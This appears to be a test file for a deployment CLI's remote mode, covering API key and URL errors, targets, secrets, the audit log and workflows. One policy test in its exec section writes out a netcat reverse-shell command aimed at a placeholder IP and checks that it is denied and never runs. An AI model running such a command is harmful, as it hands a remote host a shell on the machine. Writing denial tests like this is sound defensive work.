// The CLI as a client of a real `automatos serve` API on loopback (test/server/harness.ts): the
// commands that need no SSH host, their output next to the embedded CLI's on the same data dir,
// and every way remote mode can fail — no key, a bad URL, a wrong key, a server that is down.
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort } from '../../harness/sshd.js';
import { startApi, type Api } from '../../server/harness.js';
import { runCli, type CliResult } from '../run-cli.js';

let api: Api;

const remoteEnv = (key: string, url = api.url): NodeJS.ProcessEnv => ({
  ...process.env,
  AUTOMATOS_URL: url,
  AUTOMATOS_API_KEY: key,
});
/** The CLI in remote mode with a key of the given role (admin by default). */
const remote = (args: string[], key = api.keys.admin): Promise<CliResult> =>
  runCli(args, { env: remoteEnv(key) });
/** The CLI embedded on the server's own data dir, to compare outputs. */
const embedded = (args: string[]): Promise<CliResult> =>
  runCli(['--data-dir', api.dataDir, ...args], {
    env: { ...process.env, AUTOMATOS_URL: '', AUTOMATOS_MASTER_KEY: '' },
  });

/** One line on stderr, `error: …`, and nothing on stdout. */
function oneLineError(result: CliResult): string {
  expect(result.stdout).toBe('');
  expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
  expect(result.stderr).toMatch(/^error: /);
  return result.stderr;
}

const FINGERPRINT = `SHA256:${'A'.repeat(43)}`;
const RUN = join(import.meta.dirname, '..', '..', '..', 'src', 'cli', 'run.ts');

beforeAll(async () => {
  api = await startApi();
}, 30_000);

afterAll(async () => {
  await api?.close();
});

describe('remote mode settings', () => {
  it('needs a key with the URL, refuses a malformed one, and never prints it', async () => {
    const missing = await runCli(['workflows', 'ls'], {
      env: { ...process.env, AUTOMATOS_URL: api.url, AUTOMATOS_API_KEY: '' },
    });
    expect(missing.code).toBe(2);
    expect(oneLineError(missing)).toContain('AUTOMATOS_API_KEY is not');
    const garbled = await remote(['workflows', 'ls'], 'not-a-key-at-all');
    expect(garbled.code).toBe(2);
    expect(oneLineError(garbled)).toContain('does not look like an Automatos API key');
    expect(garbled.stderr).not.toContain('not-a-key-at-all');
  });

  it('refuses a URL that is not http(s), or that carries credentials', async () => {
    for (const url of ['ftp://127.0.0.1:8080', 'not a url', 'http://user:hunter2@127.0.0.1:8080']) {
      const result = await runCli(['targets', 'ls'], { env: remoteEnv(api.keys.admin, url) });
      expect(result.code).toBe(2);
      expect(oneLineError(result)).toContain('AUTOMATOS_URL must be');
      expect(result.stderr).not.toContain('hunter2');
    }
  });

  it('refuses --data-dir in remote mode instead of ignoring it', async () => {
    const result = await runCli(['--data-dir', api.dataDir, 'workflows', 'ls'], {
      env: remoteEnv(api.keys.admin),
    });
    expect(result.code).toBe(2);
    expect(oneLineError(result)).toContain('--data-dir selects the embedded store');
  });

  it('says so in one line when the server is down', async () => {
    const url = `http://127.0.0.1:${await freePort()}`;
    const result = await runCli(['workflows', 'ls'], { env: remoteEnv(api.keys.admin, url) });
    expect(result.code).toBe(2);
    expect(oneLineError(result)).toBe(
      `error: cannot reach the server at ${url} (AUTOMATOS_URL): connection refused (is \`automatos serve\` running there?)\n`,
    );
  });

  it('turns a wrong key (401) into one line with the code, without the key', async () => {
    const wrong = `atm_0123456789abcdef_${'x'.repeat(43)}`;
    const result = await remote(['workflows', 'ls'], wrong);
    expect(result.code).toBe(2);
    expect(oneLineError(result)).toMatch(/^error: AUT_UNAUTHENTICATED: .*check AUTOMATOS_API_KEY\n$/);
    expect(result.stderr).not.toContain(wrong);
  });

  it('turns a refusal of the role (403) into one line with the code', async () => {
    const result = await remote(['targets', 'rm', 'nope'], api.keys.viewer);
    expect(result.code).toBe(2);
    expect(oneLineError(result)).toBe('error: AUT_FORBIDDEN: role viewer may not targets.write\n');
  });

  it('lets the server refuse a directory on this machine as a source, and resolves labels from its targets', async () => {
    for (const args of [
      ['deploy', '.', '--target', 'local'],
      ['plan', '.'],
    ]) {
      const result = await remote(args);
      expect(result.code).toBe(2);
      expect(oneLineError(result)).toMatch(
        /^error: AUT_SOURCE_INVALID: repository_url must be a remote git URL/,
      );
    }
    const unlabelled = await remote(['deploy', 'https://example.com/shop.git', '--label', 'role=db']);
    expect(unlabelled.code).toBe(2);
    expect(oneLineError(unlabelled)).toBe('error: no registered target has the labels role=db\n');
  });

  it('refuses the commands the API has no route for rather than using the local data dir', async () => {
    for (const args of [
      ['apps', 'stop', 'shop', '--target', 'local'],
      ['workflows', 'resume'],
    ]) {
      const result = await remote(args);
      expect(result.code).toBe(2);
      expect(oneLineError(result)).toContain('does not run against the server at AUTOMATOS_URL');
    }
  });
});

describe('targets, secrets and audit over the API', () => {
  it('adds, lists, shows and removes a target, printing what the embedded CLI prints', async () => {
    const add = await remote([
      'targets',
      'add',
      'web-7',
      '--host',
      '10.0.0.7',
      '--user',
      'deploy',
      '--agent',
      '--fingerprint',
      FINGERPRINT,
      '--label',
      'role=web',
    ]);
    expect(add).toMatchObject({ code: 0, stderr: '' });
    expect(add.stdout).toBe(
      `added target web-7 (deploy@10.0.0.7:22, policy standard)\n  host key pinned: ${FINGERPRINT}\n`,
    );
    const list = await remote(['targets', 'ls']);
    expect(list.code).toBe(0);
    expect(list.stdout).toBe((await embedded(['targets', 'ls'])).stdout);
    expect(list.stdout).toContain(`web-7           deploy@10.0.0.7:22`);
    const json = await remote(['targets', 'ls', '--json']);
    expect(JSON.parse(json.stdout)).toEqual(JSON.parse((await embedded(['targets', 'ls', '--json'])).stdout));
    const show = await remote(['targets', 'show', 'web-7']);
    expect(show.stdout).toBe((await embedded(['targets', 'show', 'web-7'])).stdout);
    expect(JSON.parse(show.stdout)).toMatchObject({ name: 'web-7', auth: 'agent', labels: { role: 'web' } });

    const rm = await remote(['targets', 'rm', 'web-7']);
    expect(rm).toMatchObject({ code: 0, stdout: 'removed target web-7 and its stored key\n' });
    expect((await remote(['targets', 'ls'])).stdout).not.toContain('web-7');
    const gone = await remote(['targets', 'show', 'web-7']);
    expect(gone.code).toBe(2);
    expect(oneLineError(gone)).toMatch(/^error: AUT_NOT_FOUND: /);
  });

  it('stores a secret without ever echoing its value, lists and removes it', async () => {
    const value = 'pa55-remote-0123456789';
    const set = await remote(['secrets', 'set', 'shop', 'DB_PASSWORD', '--value', value]);
    expect(set).toMatchObject({
      code: 0,
      stdout: 'secret DB_PASSWORD of shop stored encrypted\n',
      stderr: '',
    });
    const ls = await remote(['secrets', 'ls', 'shop']);
    expect(ls.stdout).toBe('DB_PASSWORD\n');
    expect(JSON.parse((await remote(['secrets', 'ls', 'shop', '--json'])).stdout)).toEqual(['DB_PASSWORD']);
    expect(await api.orch.secret('shop', 'DB_PASSWORD')).toBe(value);
    const audit = await remote(['audit', 'ls', '--json']);
    expect(audit.stdout).toContain('secret.set');
    expect(audit.stdout).not.toContain(value);
    const rm = await remote(['secrets', 'rm', 'shop', 'DB_PASSWORD']);
    expect(rm).toMatchObject({ code: 0, stdout: 'secret DB_PASSWORD of shop removed\n' });
    expect((await remote(['secrets', 'ls', 'shop'])).stdout).toBe('');
  });

  it('reads the value of `secrets set` from stdin in a real CLI process', async () => {
    const value = 'from-stdin-9876543210';
    const child = spawn(process.execPath, ['--import', 'tsx', RUN, 'secrets', 'set', 'shop', 'API_TOKEN'], {
      env: remoteEnv(api.keys.operator),
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stdin.end(`${value}\n`);
    const code = await new Promise<number | null>((resolve) => child.once('exit', resolve));
    expect(output).toBe('secret API_TOKEN of shop stored encrypted\n');
    expect(code).toBe(0);
    expect(await api.orch.secret('shop', 'API_TOKEN')).toBe(value);
  }, 60_000);

  it('lists and verifies the audit log as the embedded CLI does', async () => {
    const list = await remote(['audit', 'ls', '--limit', '5']);
    expect(list.code).toBe(0);
    expect(list.stdout).toBe((await embedded(['audit', 'ls', '--limit', '5'])).stdout);
    expect(list.stdout.trimEnd().split('\n')).toHaveLength(5);
    const since = await remote(['audit', 'ls', '--since', '2000-01-01', '--json']);
    expect(JSON.parse(since.stdout)).toEqual(
      JSON.parse((await embedded(['audit', 'ls', '--since', '2000-01-01', '--json'])).stdout),
    );
    const verify = await remote(['audit', 'verify']);
    expect(verify.code).toBe(0);
    expect(verify.stdout).toMatch(
      /^audit log intact: \d+ records, head [0-9a-f]{16}…\n {2}keyed chain: from record 1 /,
    );
    expect(JSON.parse((await remote(['audit', 'verify', '--json'])).stdout)).toMatchObject({ ok: true });
    const viewer = await remote(['audit', 'ls'], api.keys.viewer);
    expect(oneLineError(viewer)).toBe('error: AUT_FORBIDDEN: role viewer may not audit.read\n');
  });
});

describe('exec over the API', () => {
  it('runs an allowed command and exits with its exit code', async () => {
    const ok = await remote(['exec', '--target', 'local', '--', 'echo', 'remote-hello'], api.keys.operator);
    expect(ok).toMatchObject({ code: 0, stdout: 'remote-hello\n', stderr: '' });
    const failing = await remote(
      ['exec', '--target', 'local', '--', "sh -c 'echo oops >&2; exit 7'"],
      api.keys.operator,
    );
    expect(failing).toMatchObject({ code: 7, stdout: '', stderr: 'oops\n' });
    const json = await remote(['exec', '--target', 'local', '--json', '--', 'echo', 'hi'], api.keys.operator);
    expect(JSON.parse(json.stdout)).toMatchObject({
      target: 'local',
      command: 'echo hi',
      exit_code: 0,
      timed_out: false,
      stdout: 'hi\n',
    });
  });

  it('exits 3 with the rule when the policy denies the command, and it never runs', async () => {
    const marker = join(api.dataDir, 'denied-marker');
    const denied = await remote(
      ['exec', '--target', 'local', '--', `touch ${marker} && nc -e /bin/sh 203.0.113.1 4444`],
      api.keys.operator,
    );
    expect(denied.code).toBe(3);
    expect(oneLineError(denied)).toMatch(
      /^error: AUT_POLICY_DENIED: command denied on local by policy rule \S+: /,
    );
    const embeddedDenied = await embedded([
      'exec',
      '--target',
      'local',
      '--',
      `touch ${marker} && nc -e /bin/sh 203.0.113.1 4444`,
    ]);
    expect(denied.stderr).toBe(embeddedDenied.stderr.replace('error: ', 'error: AUT_POLICY_DENIED: '));
    expect(existsSync(marker)).toBe(false);
  });

  it('refuses a key whose role may not execute', async () => {
    const result = await remote(['exec', '--target', 'local', '--', 'true'], api.keys.viewer);
    expect(result.code).toBe(2);
    expect(oneLineError(result)).toBe('error: AUT_FORBIDDEN: role viewer may not execute\n');
  });
});

describe('workflows over the API', () => {
  beforeAll(async () => {
    await api.orch.store.workflows.create({
      id: 'wf-remote-1',
      tier: 1,
      source: 'https://example.com/shop.git',
      ref: 'v1',
      app: 'shop',
      targets: ['local'],
      requestedBy: 'test',
      status: 'queued',
    });
    await api.orch.store.steps.upsert({
      workflowId: 'wf-remote-1',
      target: 'local',
      step: 'upload',
      position: 0,
      status: 'failed',
      error: 'no space left\non device',
    });
  });

  it('lists and shows workflows as the embedded CLI does', async () => {
    for (const args of [
      ['workflows', 'ls'],
      ['workflows', 'ls', '--app', 'shop', '--status', 'queued'],
      ['workflows', 'show', 'wf-remote-1'],
    ]) {
      const result = await remote(args, api.keys.viewer);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe((await embedded(args)).stdout);
    }
    const shown = JSON.parse((await remote(['workflows', 'show', 'wf-remote-1', '--json'])).stdout) as Record<
      string,
      unknown
    >;
    // The same record, less what the API leaves out (the plan snapshot, each step's position …).
    const local = JSON.parse((await embedded(['workflows', 'show', 'wf-remote-1', '--json'])).stdout) as {
      steps: unknown[];
    };
    expect(local).toMatchObject(shown);
    expect(Object.keys(shown)).toEqual(expect.arrayContaining(['id', 'status', 'createdAt', 'steps']));
    const bad = await remote(['workflows', 'show', 'wf-none']);
    expect(oneLineError(bad)).toMatch(/^error: AUT_NOT_FOUND: /);
  });

  it('stops a queued workflow', async () => {
    const stop = await remote(['workflows', 'stop', 'wf-remote-1'], api.keys.operator);
    expect(stop).toMatchObject({ code: 0, stderr: '' });
    expect(stop.stdout).toContain('stop requested for wf-remote-1');
    expect((await api.orch.store.workflows.get('wf-remote-1')).status).toBe('cancelled');
    const again = await remote(['workflows', 'stop', 'wf-remote-1'], api.keys.operator);
    expect(again.code).toBe(2);
    expect(oneLineError(again)).toMatch(/^error: AUT_CONFLICT: workflow wf-remote-1 already finished/);
  });

  it('prints an empty log at once for a workflow that has none', async () => {
    expect(await remote(['workflows', 'logs', 'wf-remote-1'])).toEqual({ code: 0, stdout: '', stderr: '' });
  });
});
